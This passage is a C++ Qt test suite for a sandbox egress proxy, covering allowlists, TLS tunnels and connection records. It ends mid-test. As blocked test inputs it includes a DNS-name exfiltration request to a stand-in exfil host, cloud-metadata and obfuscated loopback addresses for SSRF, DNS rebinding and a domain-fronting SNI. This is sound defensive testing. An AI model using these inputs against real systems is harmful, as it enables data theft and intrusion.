// SPDX-License-Identifier: MIT
// The daemon-side egress proxy end to end, without a sandbox: a listening socket on 127.0.0.1 stands in for
// the one cordon-init creates inside a container, loopback upstream servers (plain HTTP, and HTTPS with a CA
// made by the openssl command at test time) stand in for the internet, and a scripted resolver proves when
// the proxy resolves and what it connects to. Raw sockets send what real clients would not; curl and Python's
// urllib are the real clients. Every test asserts the exact answer and the connection record.
#include "network/domainsecrets.h"
#include "network/egressproxy.h"
#include "network/interceptionauthority.h"
#include "network/resolver.h"
#include "sandbox/json.h"

#include "testca.h"
#include "testutil.h"

#include <QDeadlineTimer>
#include <QFile>
#include <QJsonDocument>
#include <QProcess>
#include <QSignalSpy>
#include <QSslCertificate>
#include <QSslKey>
#include <QSslSocket>
#include <QStandardPaths>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTimer>

#include <fcntl.h>
#include <functional>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

using namespace Cordon;
using namespace Cordon::Network;

namespace {

const QString Container = QStringLiteral("c1");

QString str(const char *text)
{
    return QString::fromUtf8(text);
}

bool waitUntil(const std::function<bool()> &condition, int timeoutMs = 5000)
{
    QDeadlineTimer deadline(timeoutMs);
    while (!condition()) {
        if (deadline.hasExpired())
            return false;
        QTest::qWait(5);
    }
    return true;
}

// What cordon-init does inside the container, here on the host's loopback: a listening TCP socket.
int listeningSocket(quint16 &port)
{
    const int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t length = sizeof address;
    if (fd < 0 || ::bind(fd, reinterpret_cast<sockaddr *>(&address), sizeof address) != 0 ||
        ::listen(fd, 64) != 0 || ::getsockname(fd, reinterpret_cast<sockaddr *>(&address), &length) != 0)
        qFatal("cannot create the test listener");
    port = ntohs(address.sin_port);
    return fd;
}

// Answers names from a script, counts every lookup, and hands names it has no script for to the host's
// resolver.
class ScriptedResolver final : public Resolver
{
public:
    void lookup(const QString &host, QObject *context, std::function<void(const Resolution &)> done) override
    {
        lookups.append(host);
        if (silent.contains(host))
            return;
        auto it = answers.find(host);
        if (it == answers.end()) {
            m_real.lookup(host, context, std::move(done));
            return;
        }
        const Resolution answer = it->size() > 1 ? it->takeFirst() : it->first();
        QTimer::singleShot(1, context, [done, answer] { done(answer); });
    }

    QHash<QString, QList<Resolution>> answers;
    QSet<QString> silent;
    QStringList lookups;

private:
    HostInfoResolver m_real;
};

Resolution answer(std::initializer_list<const char *> addresses)
{
    Resolution resolution;
    for (const char *address : addresses)
        resolution.addresses.append(QHostAddress(str(address)));
    return resolution;
}

struct Request
{
    QByteArray method;
    QByteArray target;
    QByteArray head;
    QByteArray body;
    int connection = 0;
};

// A plain HTTP/1.1 server with keep-alive that records what reached it. "/big?n=N" answers N bytes, "/close"
// a close-delimited body, anything else a short text.
class PlainUpstream final : public QTcpServer
{
public:
    PlainUpstream() { listen(QHostAddress::LocalHost); }

    QList<Request> requests;
    int connections = 0;

protected:
    void incomingConnection(qintptr descriptor) override
    {
        auto *socket = new QTcpSocket(this);
        socket->setSocketDescriptor(descriptor);
        const int id = ++connections;
        auto buffer = std::make_shared<QByteArray>();
        connect(socket, &QTcpSocket::readyRead, socket, [this, socket, buffer, id] {
            *buffer += socket->readAll();
            while (serveOne(socket, *buffer, id)) {
            }
        });
        connect(socket, &QTcpSocket::disconnected, socket, &QObject::deleteLater);
    }

private:
    bool serveOne(QTcpSocket *socket, QByteArray &buffer, int id)
    {
        const qsizetype headEnd = buffer.indexOf("\r\n\r\n");
        if (headEnd < 0)
            return false;
        Request request;
        request.head = buffer.left(headEnd + 4);
        const QList<QByteArray> line = request.head.left(request.head.indexOf("\r\n")).split(' ');
        request.method = line.value(0);
        request.target = line.value(1);
        request.connection = id;
        const QByteArray lower = request.head.toLower();
        qsizetype bodyEnd = headEnd + 4;
        if (const qsizetype cl = lower.indexOf("\r\ncontent-length: "); cl >= 0) {
            const qsizetype end = lower.indexOf("\r\n", cl + 2);
            const qsizetype length = lower.mid(cl + 18, end - cl - 18).toLongLong();
            if (buffer.size() < bodyEnd + length)
                return false;
            request.body = buffer.mid(bodyEnd, length);
            bodyEnd += length;
        } else if (lower.contains("\r\ntransfer-encoding: chunked")) {
            qsizetype pos = bodyEnd;
            while (true) {
                const qsizetype lineEnd = buffer.indexOf("\r\n", pos);
                if (lineEnd < 0)
                    return false;
                const qsizetype size = buffer.mid(pos, lineEnd - pos).toLongLong(nullptr, 16);
                if (size == 0) {
                    if (buffer.size() < lineEnd + 4)
                        return false;
                    bodyEnd = lineEnd + 4;
                    break;
                }
                if (buffer.size() < lineEnd + 2 + size + 2)
                    return false;
                request.body += buffer.mid(lineEnd + 2, size);
                pos = lineEnd + 2 + size + 2;
            }
        }
        buffer.remove(0, bodyEnd);
        requests.append(request);
        if (request.target.startsWith("/big?n=")) {
            const qsizetype size = request.target.mid(7).toLongLong();
            socket->write("HTTP/1.1 200 OK\r\nContent-Length: " + QByteArray::number(size) + "\r\n\r\n");
            socket->write(QByteArray(size, 'x'));
            return true;
        }
        if (request.target == "/close") {
            socket->write("HTTP/1.1 200 OK\r\nConnection: close\r\n\r\nclose-delimited body");
            socket->disconnectFromHost();
            return false;
        }
        const QByteArray body =
            "upstream saw " + request.method + ' ' + request.target + " body=" + request.body;
        socket->write("HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: " +
                      QByteArray::number(body.size()) + "\r\n\r\n" + body);
        return true;
    }
};

// An HTTPS server with a certificate for localhost and upstream.test from the test CA. It answers one request
// per connection and closes; a client that sends nothing keeps its tunnel open.
class TlsUpstream final : public QTcpServer
{
public:
    TlsUpstream(const QSslCertificate &certificate, const QSslKey &key)
        : m_certificate(certificate), m_key(key)
    {
        listen(QHostAddress::LocalHost);
    }

    int connections = 0;
    int handshakes = 0;
    QList<QByteArray> heads; // every request head that arrived, decrypted

protected:
    void incomingConnection(qintptr descriptor) override
    {
        auto *socket = new QSslSocket(this);
        socket->setSocketDescriptor(descriptor);
        socket->setLocalCertificate(m_certificate);
        socket->setPrivateKey(m_key);
        ++connections;
        auto buffer = std::make_shared<QByteArray>();
        connect(socket, &QSslSocket::encrypted, this, [this] { ++handshakes; });
        connect(socket, &QSslSocket::readyRead, socket, [this, socket, buffer] {
            *buffer += socket->readAll();
            const qsizetype end = buffer->indexOf("\r\n\r\n");
            if (end < 0)
                return;
            heads.append(buffer->left(end + 4));
            const QByteArray target = buffer->split(' ').value(1);
            QByteArray body = "secure hello " + target;
            // ".../echo" repeats the request's Authorization field, as servers quoting a bad key do.
            if (target.endsWith("/echo")) {
                const qsizetype field = buffer->indexOf("\r\nAuthorization: ");
                if (field >= 0)
                    body +=
                        " auth=" + buffer->mid(field + 17, buffer->indexOf("\r\n", field + 2) - field - 17);
            }
            socket->write("HTTP/1.1 200 OK\r\nContent-Length: " + QByteArray::number(body.size()) +
                          "\r\nConnection: close\r\n\r\n" + body);
            socket->disconnectFromHost();
        });
        connect(socket, &QSslSocket::disconnected, socket, &QObject::deleteLater);
        socket->startServerEncryption();
    }

private:
    QSslCertificate m_certificate;
    QSslKey m_key;
};

struct Response
{
    int status = 0;
    QByteArray head;
    QByteArray body;
};

// A raw client of the proxy that keeps everything it receives.
class Client
{
public:
    explicit Client(quint16 port)
    {
        QObject::connect(&socket, &QTcpSocket::readyRead, [this] { received += socket.readAll(); });
        QObject::connect(&socket, &QTcpSocket::disconnected, [this] { closed = true; });
        socket.connectToHost(QHostAddress::LocalHost, port);
    }

    void send(const QByteArray &bytes) { socket.write(bytes); }

    // Waits for one response and removes it from what was received. headOnly: the answer to a CONNECT.
    std::optional<Response> response(bool headOnly = false, int timeoutMs = 5000)
    {
        std::optional<Response> result;
        waitUntil(
            [&] {
                result = take(headOnly);
                return result.has_value();
            },
            timeoutMs);
        return result;
    }

    bool waitClosed(int timeoutMs = 5000)
    {
        return waitUntil([this] { return closed; }, timeoutMs);
    }

    QTcpSocket socket;
    QByteArray received;
    bool closed = false;

private:
    std::optional<Response> take(bool headOnly)
    {
        const qsizetype headEnd = received.indexOf("\r\n\r\n");
        if (headEnd < 0)
            return std::nullopt;
        Response response;
        response.head = received.left(headEnd + 4);
        response.status = response.head.mid(9, 3).toInt();
        qsizetype length = 0;
        const QByteArray lower = response.head.toLower();
        if (const qsizetype cl = lower.indexOf("content-length: "); cl >= 0)
            length = lower.mid(cl + 16, lower.indexOf("\r\n", cl) - cl - 16).toLongLong();
        else if (!headOnly && !closed)
            return std::nullopt; // close-delimited: complete when the connection ends
        else if (!headOnly)
            length = received.size() - headEnd - 4;
        if (received.size() < headEnd + 4 + length)
            return std::nullopt;
        response.body = received.mid(headEnd + 4, length);
        received.remove(0, headEnd + 4 + length);
        return response;
    }
};

QList<ConnectionRecord> records(const QSignalSpy &spy)
{
    QList<ConnectionRecord> out;
    for (const QList<QVariant> &arguments : spy)
        out.append(qvariant_cast<ConnectionRecord>(arguments.at(0)));
    return out;
}

Policy::NetworkPolicy allowlist(const QByteArray &rules)
{
    const QByteArray document = QByteArray(R"({"type": "allowlist", "allowed_domains": )") + rules + "}";
    const Result<Json> json = Json::read(document.toStdString());
    const Result<Policy::NetworkPolicy> policy =
        json ? Policy::NetworkPolicy::fromJson(*json, {}) : tl::unexpected<Error>(json.error());
    if (!policy)
        qFatal("bad policy in test: %s", policy.error().message().c_str());
    return *policy;
}

OrgPolicy orgList(const QByteArray &rules)
{
    const Result<OrgPolicy> org = OrgPolicy::fromJson(QByteArray(R"({"allowed_domains": )" + rules + "}"),
                                                      OrgPolicy::Source::User, str("/test/org.json"));
    if (!org)
        qFatal("bad org policy in test: %s", org.error().message().c_str());
    return *org;
}

} // namespace

class TestEgressProxy : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void init();
    void cleanup();

    void listenerValidation();
    void plainHttpAllowed();
    void keepAliveReusesUpstream();
    void keepAliveSecondRequestForbidden();
    void chunkedBodyReframed();
    void closeDelimitedResponse();
    void connectTlsAllowed();
    void notAllowedNameIsNeverResolved();
    void deniedUploadStillGetsTheAnswer();
    void loopbackWithoutAllowPrivateRefused();
    void anyPrivateAnswerRefused();
    void rebindingUsesOneAnswer();
    void ipLiteralSpellingsRefused();
    void ipLiteralRuleAllowsExactAddress();
    void sniMismatchClosed();
    void nonTlsTunnelClosed();
    void hostHeaderMismatchRefused();
    void smugglingRefused_data();
    void smugglingRefused();
    void portsAndSchemes();
    void upstreamFailures();
    void orgPolicyApplies();
    void policyUpdateClosesOpenTunnel();
    void orgNarrowingClosesOpenTunnel();
    void connectionLimit();
    void byteLimit();
    void idleTimeout();
    void removeListenerClosesEverything();
    void curlThroughProxy();
    void pythonUrllibThroughProxy();
    void domainSecretsGoOnlyToTheirDomain();
    void domainSecretUpstreamMustBeTrusted();

private:
    void setPolicy(const QByteArray &rules);
    std::unique_ptr<QSslSocket> openTunnel(const QByteArray &authority, const QString &serverName,
                                           const QSslCertificate &trusted = QSslCertificate());
    std::shared_ptr<InterceptionAuthority> setDomainSecrets(quint16 port);
    QByteArray askThroughTunnel(const QByteArray &authority, const QString &serverName,
                                const QSslCertificate &trusted, const QByteArray &request,
                                const std::function<bool(const QByteArray &)> &complete);
    QByteArray localRule(quint16 port, const QByteArray &extra = QByteArray()) const;

    QTemporaryDir m_dir;
    bool m_haveTls = false;
    QSslCertificate m_ca;
    QSslCertificate m_certificate;
    QSslKey m_key;

    std::shared_ptr<ScriptedResolver> m_resolver;
    std::unique_ptr<EgressProxy> m_proxy;
    std::unique_ptr<QSignalSpy> m_finished;
    std::unique_ptr<QSignalSpy> m_started;
    std::unique_ptr<PlainUpstream> m_plain;
    std::unique_ptr<TlsUpstream> m_tls;
    quint16 m_port = 0;
    ProxyLimits m_limits;
};

void TestEgressProxy::initTestCase()
{
    QVERIFY(m_dir.isValid());
    const std::optional<CordonTest::TestCa> ca =
        QSslSocket::supportsSsl()
            ? CordonTest::makeTestCa(m_dir.path(), str("DNS:localhost,DNS:upstream.test,IP:127.0.0.1"))
            : std::nullopt;
    if (!ca) {
        if (qEnvironmentVariableIntValue("CORDON_MUST_WORK") == 1)
            QFAIL("no openssl command or no TLS in Qt");
        qWarning("no openssl command or no TLS in Qt: the HTTPS tests are skipped");
        return;
    }
    const auto read = [](const QString &path) {
        QFile file(path);
        return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
    };
    m_ca = QSslCertificate(read(ca->caPem));
    m_certificate = QSslCertificate(read(ca->serverPem));
    m_key = QSslKey(read(ca->serverKey), QSsl::Ec);
    QVERIFY(!m_ca.isNull() && !m_certificate.isNull() && !m_key.isNull());
    m_haveTls = true;
}

void TestEgressProxy::init()
{
    m_resolver = std::make_shared<ScriptedResolver>();
    m_proxy = std::make_unique<EgressProxy>(m_resolver);
    m_finished = std::make_unique<QSignalSpy>(m_proxy.get(), &EgressProxy::connectionFinished);
    m_started = std::make_unique<QSignalSpy>(m_proxy.get(), &EgressProxy::connectionStarted);
    m_plain = std::make_unique<PlainUpstream>();
    if (m_haveTls)
        m_tls = std::make_unique<TlsUpstream>(m_certificate, m_key);
    m_limits = ProxyLimits();
    m_limits.resolveTimeoutMs = 1000;
    m_limits.connectTimeoutMs = 1000;
    m_limits.clientHelloTimeoutMs = 2000;
    m_proxy->setLimits(Container, m_limits);
    QVERIFY_RESULT(m_proxy->addListener(Container, listeningSocket(m_port)));
}

void TestEgressProxy::cleanup()
{
    m_proxy.reset();
    m_started.reset();
    m_finished.reset();
    m_plain.reset();
    m_tls.reset();
    m_resolver.reset();
}

QByteArray TestEgressProxy::localRule(quint16 port, const QByteArray &extra) const
{
    return R"({"domain": "localhost", "ports": [)" + QByteArray::number(port) +
           R"(], "allow_private_addresses": true)" + extra + "}";
}

// The same rules for the container and the organisation, so that only the container's list is under test.
void TestEgressProxy::setPolicy(const QByteArray &rules)
{
    m_proxy->setOrgPolicy(orgList(rules));
    m_proxy->updatePolicy(Container, allowlist(rules));
}

// Sends CONNECT, waits for "200 Connection established", then starts TLS on the same socket with serverName
// as SNI and as the name to verify. Null when the proxy did not answer 200.
std::unique_ptr<QSslSocket> TestEgressProxy::openTunnel(const QByteArray &authority,
                                                        const QString &serverName,
                                                        const QSslCertificate &trusted)
{
    auto socket = std::make_unique<QSslSocket>();
    socket->connectToHost(QHostAddress::LocalHost, m_port);
    socket->write("CONNECT " + authority + " HTTP/1.1\r\nHost: " + authority + "\r\n\r\n");
    QByteArray head;
    waitUntil([&] {
        // Nothing follows the answer until the client speaks TLS, so reading everything is safe.
        head += socket->readAll();
        return head.contains("\r\n\r\n") || socket->state() == QAbstractSocket::UnconnectedState;
    });
    if (!head.startsWith("HTTP/1.1 200 ") || !head.endsWith("\r\n\r\n"))
        return nullptr;
    QSslConfiguration configuration = socket->sslConfiguration();
    configuration.setCaCertificates({trusted.isNull() ? m_ca : trusted});
    socket->setSslConfiguration(configuration);
    socket->setPeerVerifyName(serverName);
    socket->startClientEncryption();
    return socket;
}

void TestEgressProxy::listenerValidation()
{
    // Not a socket, not listening, already there: refused, and the descriptor is closed either way.
    const int notSocket = ::open("/dev/null", O_RDONLY | O_CLOEXEC);
    Result<void> result = m_proxy->addListener(str("x"), notSocket);
    QVERIFY(!result);
    QCOMPARE(result.error().code(), "network.invalid_listener");
    QVERIFY(::fcntl(notSocket, F_GETFD) == -1);

    const int unbound = ::socket(AF_INET, SOCK_STREAM, 0);
    result = m_proxy->addListener(str("x"), unbound);
    QVERIFY(!result);
    QVERIFY2(toQt(result.error().message()).contains(str("not listening")), result.error().message().c_str());

    quint16 port = 0;
    result = m_proxy->addListener(Container, listeningSocket(port));
    QVERIFY(!result);
    QCOMPARE(result.error().code(), "network.listener_exists");
    QVERIFY(m_proxy->hasListener(Container));
    QVERIFY(!m_proxy->hasListener(str("x")));

    // A listener without a policy denies everything.
    Client client(m_port);
    client.send("GET http://localhost:" + QByteArray::number(m_plain->serverPort()) + "/ HTTP/1.1\r\n\r\n");
    const auto response = client.response();
    QVERIFY(response);
    QCOMPARE(response->status, 403);
    QCOMPARE(response->body, QByteArray("blocked by sandbox policy: this container has no network access\n"));
}

void TestEgressProxy::plainHttpAllowed()
{
    const quint16 up = m_plain->serverPort();
    setPolicy("[" + localRule(up) + "]");
    Client client(m_port);
    const QByteArray target = "http://localhost:" + QByteArray::number(up) + "/hello?x=1";
    client.send("GET " + target + " HTTP/1.1\r\nHost: localhost:" + QByteArray::number(up) +
                "\r\nProxy-Authorization: Basic c2VjcmV0\r\nUser-Agent: raw\r\n\r\n");
    const auto response = client.response();
    QVERIFY(response);
    QCOMPARE(response->status, 200);
    QCOMPARE(response->body, QByteArray("upstream saw GET /hello?x=1 body="));
    QCOMPARE(m_plain->requests.size(), 1);
    const Request &seen = m_plain->requests.first();
    QVERIFY2(seen.head.startsWith(
                 QByteArray("GET /hello?x=1 HTTP/1.1\r\nHost: localhost:" + QByteArray::number(up) + "\r\n")),
             seen.head.constData());
    QVERIFY(!seen.head.toLower().contains("proxy-authorization"));
    QVERIFY(seen.head.contains("User-Agent: raw\r\n"));

    QTRY_COMPARE(m_finished->size(), 1);
    const ConnectionRecord record = records(*m_finished).first();
    QCOMPARE(record.containerId, Container);
    QCOMPARE(record.decision, Decision::Allowed);
    QCOMPARE(record.host, str("localhost"));
    QCOMPARE(record.port, up);
    QCOMPARE(record.method, str("GET"));
    QCOMPARE(record.path, str("/hello"));
    QCOMPARE(record.status, 200);
    QCOMPARE(record.address, QHostAddress(QHostAddress::LocalHost));
    QCOMPARE(record.bytesDown, qint64(response->head.size() + response->body.size()));
    QCOMPARE(record.bytesUp, qint64(seen.head.size()));
    QVERIFY(record.startedAt.isValid());
    QCOMPARE(m_started->size(), 1);
    QCOMPARE(record.toJson().value(str("decision")).toString(), str("allowed"));
}

void TestEgressProxy::keepAliveReusesUpstream()
{
    const quint16 up = m_plain->serverPort();
    setPolicy("[" + localRule(up) + "]");
    Client client(m_port);
    const QByteArray base = "http://localhost:" + QByteArray::number(up);
    // Pipelined: the second request waits in the proxy until the first response is through.
    client.send("GET " + base + "/one HTTP/1.1\r\n\r\nPOST " + base +
                "/two HTTP/1.1\r\nContent-Length: 3\r\n\r\nabc");
    const auto first = client.response();
    QVERIFY(first);
    QCOMPARE(first->body, QByteArray("upstream saw GET /one body="));
    const auto second = client.response();
    QVERIFY(second);
    QCOMPARE(second->body, QByteArray("upstream saw POST /two body=abc"));
    client.send("GET " + base + "/three HTTP/1.1\r\n\r\n");
    QVERIFY(client.response());
    QCOMPARE(m_plain->requests.size(), 3);
    // One upstream connection for all three: the checked address is reused, never resolved again.
    QCOMPARE(m_plain->connections, 1);
    QTRY_COMPARE(m_finished->size(), 3);
    const QList<ConnectionRecord> list = records(*m_finished);
    QCOMPARE(list.at(0).connectionId, list.at(2).connectionId);
    QCOMPARE(list.at(0).requestIndex, 0);
    QCOMPARE(list.at(1).requestIndex, 1);
    QCOMPARE(list.at(2).requestIndex, 2);
    QCOMPARE(list.at(1).method, str("POST"));
    QVERIFY(!client.closed);
}

void TestEgressProxy::keepAliveSecondRequestForbidden()
{
    const quint16 up = m_plain->serverPort();
    setPolicy("[" + localRule(up, R"(, "methods": ["GET"], "path_prefixes": ["/public/"])") + "]");
    Client client(m_port);
    const QByteArray base = "http://localhost:" + QByteArray::number(up);
    client.send("GET " + base + "/public/a HTTP/1.1\r\n\r\n");
    const auto allowed = client.response();
    QVERIFY(allowed);
    QCOMPARE(allowed->status, 200);
    // Same connection, next request: checked again, refused, and the connection ends.
    client.send("GET " + base + "/admin HTTP/1.1\r\n\r\n");
    const auto denied = client.response();
    QVERIFY(denied);
    QCOMPARE(denied->status, 403);
    QCOMPARE(denied->body, QByteArray("blocked by sandbox policy: path /admin not allowed for localhost\n"));
    QVERIFY(client.waitClosed());

    Client other(m_port);
    other.send("DELETE " + base + "/public/a HTTP/1.1\r\n\r\n");
    const auto method = other.response();
    QVERIFY(method);
    QCOMPARE(method->status, 403);
    QCOMPARE(method->body,
             QByteArray("blocked by sandbox policy: method DELETE not allowed for localhost\n"));
    QCOMPARE(m_plain->requests.size(), 1);
    QTRY_COMPARE(m_finished->size(), 3);
    QCOMPARE(records(*m_finished).at(1).decision, Decision::Denied);
    QCOMPARE(records(*m_finished).at(1).requestIndex, 1);
}

void TestEgressProxy::chunkedBodyReframed()
{
    const quint16 up = m_plain->serverPort();
    setPolicy("[" + localRule(up) + "]");
    Client client(m_port);
    client.send("POST http://localhost:" + QByteArray::number(up) +
                "/up HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
                "5\r\nhello\r\n006\r\n world\r\n0\r\nX-Trailer: t\r\n\r\n");
    const auto response = client.response();
    QVERIFY(response);
    QCOMPARE(response->body, QByteArray("upstream saw POST /up body=hello world"));
    QCOMPARE(m_plain->requests.size(), 1);
    QVERIFY(m_plain->requests.first().head.contains("Transfer-Encoding: chunked\r\n"));
}

void TestEgressProxy::closeDelimitedResponse()
{
    const quint16 up = m_plain->serverPort();
    setPolicy("[" + localRule(up) + "]");
    Client client(m_port);
    client.send("GET http://localhost:" + QByteArray::number(up) + "/close HTTP/1.1\r\n\r\n");
    QVERIFY(client.waitClosed());
    const auto response = client.response();
    QVERIFY(response);
    QCOMPARE(response->status, 200);
    QCOMPARE(response->body, QByteArray("close-delimited body"));
    QTRY_COMPARE(m_finished->size(), 1);
    QCOMPARE(records(*m_finished).first().decision, Decision::Allowed);
}

void TestEgressProxy::connectTlsAllowed()
{
    if (!m_haveTls)
        SKIP_UNLESS_MUST_WORK("no openssl command or no TLS in Qt");
    const quint16 up = m_tls->serverPort();
    setPolicy("[" + localRule(up) + "]");
    const std::unique_ptr<QSslSocket> socket =
        openTunnel("localhost:" + QByteArray::number(up), str("localhost"));
    QVERIFY(socket);
    QVERIFY(waitUntil([&] { return socket->isEncrypted(); }));
    socket->write("GET /inside HTTP/1.1\r\nHost: localhost\r\n\r\n");
    QByteArray reply;
    QVERIFY(waitUntil([&] {
        reply += socket->readAll();
        return reply.endsWith("secure hello /inside");
    }));
    QTRY_COMPARE(m_finished->size(), 1);
    const ConnectionRecord record = records(*m_finished).first();
    QCOMPARE(record.decision, Decision::Allowed);
    QCOMPARE(record.method, str("CONNECT"));
    QCOMPARE(record.status, 200);
    QCOMPARE(record.host, str("localhost"));
    QVERIFY(record.bytesUp > 200);   // at least the ClientHello
    QVERIFY(record.bytesDown > 200); // at least the server's handshake
    QCOMPARE(m_tls->handshakes, 1);
}

void TestEgressProxy::notAllowedNameIsNeverResolved()
{
    setPolicy("[" + localRule(m_plain->serverPort()) + "]");
    // The secret travels in the name: resolving it would send it to the attacker's nameserver.
    Client connect(m_port);
    connect.send("CONNECT c2VjcmV0.exfil.invalid:443 HTTP/1.1\r\n\r\n");
    const auto denied = connect.response();
    QVERIFY(denied);
    QCOMPARE(denied->status, 403);
    QCOMPARE(denied->body,
             QByteArray(
                 "blocked by sandbox policy: c2vjcmv0.exfil.invalid is not in this container's allowlist\n"));
    QVERIFY(connect.waitClosed());

    Client plain(m_port);
    plain.send("GET http://another-secret.exfil.invalid/ HTTP/1.1\r\n\r\n");
    const auto deniedPlain = plain.response();
    QVERIFY(deniedPlain);
    QCOMPARE(deniedPlain->status, 403);
    QVERIFY(m_resolver->lookups.isEmpty());
    QTRY_COMPARE(m_finished->size(), 2);
    for (const ConnectionRecord &record : records(*m_finished)) {
        QCOMPARE(record.decision, Decision::Denied);
        QCOMPARE(record.status, 403);
        QVERIFY(record.address.isNull());
    }
    QCOMPARE(m_started->size(), 0);
}

void TestEgressProxy::deniedUploadStillGetsTheAnswer()
{
    // The proxy refuses after the head and never reads the 8 MiB body. Closing with unread input would reset
    // the connection and could destroy the 403 before the client read it; the lingering close must not.
    setPolicy("[" + localRule(m_plain->serverPort()) + "]");
    Client client(m_port);
    const qsizetype size = 8 * 1024 * 1024;
    client.send("POST http://upload.example/ HTTP/1.1\r\nContent-Length: " + QByteArray::number(size) +
                "\r\n\r\n");
    client.send(QByteArray(size, 'u'));
    const auto response = client.response();
    QVERIFY(response);
    QCOMPARE(response->status, 403);
    QCOMPARE(response->body,
             QByteArray("blocked by sandbox policy: upload.example is not in this container's allowlist\n"));
    QVERIFY(client.waitClosed(10000));
}

void TestEgressProxy::loopbackWithoutAllowPrivateRefused()
{
    const quint16 up = m_plain->serverPort();
    setPolicy(R"([{"domain": "localhost", "ports": [)" + QByteArray::number(up) + "]}]");
    Client client(m_port);
    client.send("GET http://localhost:" + QByteArray::number(up) + "/ HTTP/1.1\r\n\r\n");
    const auto response = client.response();
    QVERIFY(response);
    QCOMPARE(response->status, 403);
    QVERIFY2(response->body.startsWith(
                 "blocked by sandbox policy: localhost resolved to a private address (127.0.0.1"),
             response->body.constData());
    QCOMPARE(m_resolver->lookups, QStringList{str("localhost")});
    QCOMPARE(m_plain->connections, 0);
    QTRY_COMPARE(m_finished->size(), 1);
    QCOMPARE(records(*m_finished).first().decision, Decision::Denied);
    QCOMPARE(records(*m_finished).first().address, QHostAddress(QHostAddress::LocalHost));
}

void TestEgressProxy::anyPrivateAnswerRefused()
{
    // One public and one internal address in the same answer: refused, whatever order the resolver gives.
    setPolicy(R"(["mixed.test", "imds.test"])");
    m_resolver->answers[str("mixed.test")] = {answer({"1.2.3.4", "169.254.169.254"})};
    m_resolver->answers[str("imds.test")] = {answer({"::ffff:a9fe:a9fe"})};
    Client mixed(m_port);
    mixed.send("GET http://mixed.test/latest/meta-data/ HTTP/1.1\r\n\r\n");
    auto response = mixed.response();
    QVERIFY(response);
    QCOMPARE(response->status, 403);
    QVERIFY2(response->body.contains("mixed.test resolved to a private address (169.254.169.254"),
             response->body.constData());
    Client mapped(m_port);
    mapped.send("CONNECT imds.test:443 HTTP/1.1\r\n\r\n");
    response = mapped.response(true);
    QVERIFY(response);
    QCOMPARE(response->status, 403);
    QVERIFY2(response->body.contains("IPv4-mapped"), response->body.constData());
}

void TestEgressProxy::rebindingUsesOneAnswer()
{
    // TTL-0 rebinding: a public answer first, then loopback. The proxy resolves once per connection and dials
    // exactly the address it checked, so the second answer never meets the first check.
    const quint16 up = m_plain->serverPort();
    setPolicy(R"([{"domain": "rebind.test", "ports": [)" + QByteArray::number(up) + "]}]");
    m_resolver->answers[str("rebind.test")] = {answer({"1.2.3.4"}), answer({"127.0.0.1"})};
    m_limits.connectTimeoutMs = 300;
    m_proxy->setLimits(Container, m_limits);
    Client first(m_port);
    first.send("GET http://rebind.test:" + QByteArray::number(up) + "/ HTTP/1.1\r\n\r\n");
    auto response = first.response(false, 5000);
    QVERIFY(response);
    QCOMPARE(response->status, 502);
    QTRY_COMPARE(m_finished->size(), 1);
    QCOMPARE(records(*m_finished).first().address, QHostAddress(str("1.2.3.4")));
    QCOMPARE(m_resolver->lookups.size(), 1);
    QCOMPARE(m_plain->connections, 0);

    Client second(m_port);
    second.send("GET http://rebind.test:" + QByteArray::number(up) + "/ HTTP/1.1\r\n\r\n");
    response = second.response();
    QVERIFY(response);
    QCOMPARE(response->status, 403);
    QVERIFY(response->body.contains("rebind.test resolved to a private address (127.0.0.1"));
    QCOMPARE(m_resolver->lookups.size(), 2);
    QCOMPARE(m_plain->connections, 0);
}

void TestEgressProxy::ipLiteralSpellingsRefused()
{
    const QByteArray up = QByteArray::number(m_plain->serverPort());
    setPolicy("[" + localRule(m_plain->serverPort()) + "]");
    const QList<QByteArray> spellings{
        "127.0.0.1",       "127.1",         "0x7f000001", "2130706433",
        "0177.0.0.1",      "127.0.0.01",    "[::1]",      "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]", "[::127.0.0.1]", "0.0.0.0",    "localhost.:" + up + "@127.0.0.1"};
    for (const QByteArray &host : spellings) {
        Client client(m_port);
        client.send("CONNECT " + host + ":" + up + " HTTP/1.1\r\n\r\n");
        const auto response = client.response(true);
        QVERIFY2(response, host.constData());
        QVERIFY2(response->status == 403, QByteArray(host + ": " + response->head).constData());
        QVERIFY2(response->body.startsWith("blocked by sandbox policy: "), response->body.constData());
    }
    QVERIFY(m_resolver->lookups.isEmpty());
    QCOMPARE(m_plain->connections, 0);
}

void TestEgressProxy::ipLiteralRuleAllowsExactAddress()
{
    const quint16 up = m_plain->serverPort();
    setPolicy(R"([{"domain": "127.0.0.1", "ports": [)" + QByteArray::number(up) +
              R"(], "allow_private_addresses": true}])");
    Client client(m_port);
    client.send("GET http://127.0.0.1:" + QByteArray::number(up) + "/ip HTTP/1.1\r\n\r\n");
    const auto response = client.response();
    QVERIFY(response);
    QCOMPARE(response->status, 200);
    // Named exactly, so never resolved.
    QVERIFY(m_resolver->lookups.isEmpty());
    Client other(m_port);
    other.send("GET http://localhost:" + QByteArray::number(up) + "/ip HTTP/1.1\r\n\r\n");
    QCOMPARE(other.response()->status, 403);
}

void TestEgressProxy::sniMismatchClosed()
{
    if (!m_haveTls)
        SKIP_UNLESS_MUST_WORK("no openssl command or no TLS in Qt");
    const quint16 up = m_tls->serverPort();
    setPolicy("[" + localRule(up) + "]");
    // CONNECT names an allowed host, the TLS session another one: domain fronting through the proxy.
    const std::unique_ptr<QSslSocket> socket =
        openTunnel("localhost:" + QByteArray::number(up), str("evil.example"));
    QVERIFY(socket);
    QVERIFY(waitUntil([&] { return socket->state() == QAbstractSocket::UnconnectedState; }));
    QVERIFY(!socket->isEncrypted());
    QTRY_COMPARE(m_finished->size(), 1);
    const ConnectionRecord record = records(*m_finished).first();
    QCOMPARE(record.decision, Decision::Denied);
    QVERIFY2(record.reason.contains(str("\"evil.example\" does not match the CONNECT host localhost")),
             qPrintable(record.reason));
    QCOMPARE(m_tls->handshakes, 0);
